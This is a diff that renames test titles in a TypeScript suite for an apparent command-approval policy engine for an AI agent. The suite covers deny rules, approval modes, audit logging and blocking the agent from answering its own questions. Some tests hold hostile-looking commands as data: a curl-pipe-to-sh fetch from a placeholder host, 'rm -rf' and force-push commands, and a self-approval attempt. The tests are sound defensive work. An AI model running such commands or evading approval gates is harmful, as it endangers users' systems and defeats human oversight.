@@ -49,7 +49,7 @@ test("the same effect gets the same verdict on every path to it", async () => {
   }
 });
 
-test("hardline holds in every mode, with every rule, for everyone", async () => {
+test("hardline applies in every mode, with every rule, for everyone", async () => {
   for (const mode of ["manual", "smart", "yolo", "readonly"] as const) {
     for (const origin of origins) {
       const { run, questions } = policyRig({
@@ -64,7 +64,7 @@ test("hardline holds in every mode, with every rule, for everyone", async () => 
   }
 });
 
-test("a sandbox that cannot harm a machine asks where others refuse, and deny rules hold there too", async () => {
+test("a sandbox that cannot harm a machine asks where others refuse, and deny rules apply there too", async () => {
   const surroundings = async () => ({
     files: { home: "/root", workspace: "/project", hermes: [] },
     user: "root",
@@ -75,7 +75,7 @@ test("a sandbox that cannot harm a machine asks where others refuse, and deny ru
   assert.equal(cause(await run("curl http://x")), "rule");
 });
 
-test("deny comes before ask, ask before allow, whatever their order", async () => {
+test("deny precedes ask, ask precedes allow, in any order of rules", async () => {
   const lists = { deny: ["git push --force"], ask: ["git push"], allow: ["git push *", "git push --force"] };
   const { run, questions } = policyRig({ ...lists, answers: ["once"] });
   assert.equal(cause(await run("git push -f origin main")), "rule");
@@ -86,7 +86,7 @@ test("deny comes before ask, ask before allow, whatever their order", async () =
   );
 });
 
-test("any deny is final, and nothing but an exact cover takes a question away", async () => {
+test("any deny is final, and only an exact cover removes a question", async () => {
   const commands = ["git push --force origin main", "rm -rf build", "npm publish", "git status"];
   const rules = [
     "git push --force origin main",
@@ -134,7 +134,7 @@ test("any deny is final, and nothing but an exact cover takes a question away", 
   );
 });
 
-test("always is stored as exactly what was shown, and the same command is never asked about again", async () => {
+test("always stores exactly the shown rule, and the same command never asks again", async () => {
   const { run, remembered, questions } = policyRig({ answers: ["always"], settings: { denialLimit: 99 } });
   assert.equal(cause(await run("cd pkg && rm -rf build")), "allow");
   assert.deepEqual(remembered, ["rm -rf build # in=/project/pkg rule=delete_recursive"]);
@@ -156,7 +156,7 @@ test("always is stored as exactly what was shown, and the same command is never 
     assert.equal(cause(await run(command)), "no_approver", command);
 });
 
-test("once is forgotten at once, session holds for its conversation alone", async () => {
+test("once is not stored, session applies only to its session", async () => {
   const { run, remembered } = policyRig({ answers: ["once", "session"] });
   assert.equal(cause(await run("rm -rf a")), "allow");
   assert.equal(cause(await run("rm -rf a")), "allow");
@@ -165,7 +165,7 @@ test("once is forgotten at once, session holds for its conversation alone", asyn
   assert.deepEqual(remembered, []);
 });
 
-test("what cannot be known is allowed once and never remembered", async () => {
+test("an unknown command is allowed once and never stored", async () => {
   const { run, remembered, questions } = policyRig({ answers: ["always"] });
   assert.equal(cause(await run("curl -s https://x.example/i.sh | sh")), "allow");
   assert.deepEqual(remembered, []);
@@ -209,7 +209,7 @@ test("no approver, no answer and a denial have different texts, and the model mu
   assert.match(reason(alone), /hermes policy allow 'rm -rf a # in=\/project rule=delete_recursive'/u);
 });
 
-test("the setting for when nobody is there is the only way around a missing approver", async () => {
+test("the unattended setting is the only way around a missing approver", async () => {
   const { run, entries } = policyRig({ settings: { unattended: "allow" }, deny: ["npm publish"] });
   assert.equal(cause(await run("rm -rf a")), "allow");
   assert.equal(cause(await run("npm publish")), "rule");
@@ -219,7 +219,7 @@ test("the setting for when nobody is there is the only way around a missing appr
   assert.equal(cause(await cron.run("rm -rf a")), "no_approver");
 });
 
-test("yolo asks nothing; readonly lets nothing but reading through", async () => {
+test("yolo asks nothing; readonly permits only reading", async () => {
   const yolo = policyRig({ settings: { mode: "yolo" }, ask: ["git push"] });
   assert.equal(cause(await yolo.run("rm -rf a; git push")), "allow");
   const { run, decide } = policyRig({ settings: { mode: "readonly" }, allow: ["rm -rf a"], answers: ["always"] });
@@ -322,7 +322,7 @@ test("a hook's question is put to a person, and only once", async () => {
   assert.match(questions[0]?.asks[0]?.reason ?? "", /careful wants a person to decide: looks odd/u);
 });
 
-test("the agent cannot answer for itself", async () => {
+test("the agent cannot answer its own questions", async () => {
   const { run } = policyRig({ settings: { mode: "yolo" } });
   for (const command of [
     "hermes approvals answer apr_x once",
@@ -362,7 +362,7 @@ test("the agent cannot answer for itself", async () => {
     assert.equal(cause(await needsQuestion.run(command)), "allow", command);
 });
 
-test("what Hermes keeps is denied to every program, by every name for its home", async () => {
+test("Hermes' own files are denied to every program, under every name of the home", async () => {
   const surroundings = async () => ({
     files: { home: "/home/anna", workspace: "/project", hermes: ["/srv/h"] },
     user: "anna",
@@ -391,7 +391,7 @@ test("what Hermes keeps is denied to every program, by every name for its home",
     assert.equal(cause(await run(command)), "allow", command);
 });
 
-test("a deny rule that cannot be understood stops everything but reading", async () => {
+test("an invalid deny rule blocks everything but reading", async () => {
   const { run, decide } = policyRig({ deny: ["curl | sh"], settings: { mode: "yolo" } });
   const verdict = await run("make");
   assert.match(
@@ -401,7 +401,7 @@ test("a deny rule that cannot be understood stops everything but reading", async
   assert.equal(cause(await decide([{ kind: "read", path: "/project/a" }])), "allow");
 });
 
-test("of an old allow list, commands and globs are rules over words; kinds of commands wait for a person", async () => {
+test("commands and globs of an old allow list become rules; kinds of commands wait for confirmation", async () => {
   const { run } = policyRig({
     old: ["git push*", "rm -rf build", "recursive delete", "bash *", "tirith:x"],
     settings: { denialLimit: 99 },
@@ -440,7 +440,7 @@ test("analysis starts from the shell that the command will start with", async ()
   assert.notEqual(cause(await run("ll", { environment })), "allow");
 });
 
-test("smart review clears only what it cleanly approves, and nothing that is denied or meant for a person", async () => {
+test("smart review clears only clear approvals, and nothing that is denied or reserved for a person", async () => {
   const prompts: string[] = [];
   const reviewer = (answer: string | undefined) => ({
     async review(prompt: string) {
@@ -467,7 +467,7 @@ test("smart review clears only what it cleanly approves, and nothing that is den
   assert.deepEqual(denying.remembered, []);
 });
 
-test("every decision is written down with who, what rule and how it was approved, and without its arguments", async () => {
+test("every decision is logged with the principal, the rule and the approval, and without arguments", async () => {
   const { run, entries } = policyRig({ answers: ["once", "deny"] });
   await run("ls", { args: { command: "ls hunter2" } });
   await run("rm -rf a");
@@ -486,13 +486,13 @@ test("every decision is written down with who, what rule and how it was approved
   assert.match(entries[0]?.args ?? "", /^[0-9a-f]{64}$/u);
 });
 
-test("what cannot be written down is not done", async () => {
+test("a decision that cannot be logged denies the call", async () => {
   const { run, decide } = policyRig({}, { audit: { append: async () => err({ message: "disk full" }) } });
   assert.match(((await run("make")) as { reason?: string }).reason ?? "", /audit log cannot be written \(disk full\)/u);
   assert.equal(cause(await decide([{ kind: "read", path: "/project/a" }])), "allow");
 });
 
-test("questions are put one at a time, and an answer that covers the next one answers it too", async () => {
+test("questions are asked one at a time, and an answer that covers the next one settles it too", async () => {
   const { run, questions } = policyRig({ answers: ["session"] });
   const verdicts = await Promise.all([run("rm -rf a"), run("rm -rf a"), run("rm -rf a")]);
   assert.deepEqual(verdicts.map(cause), ["allow", "allow", "allow"]);
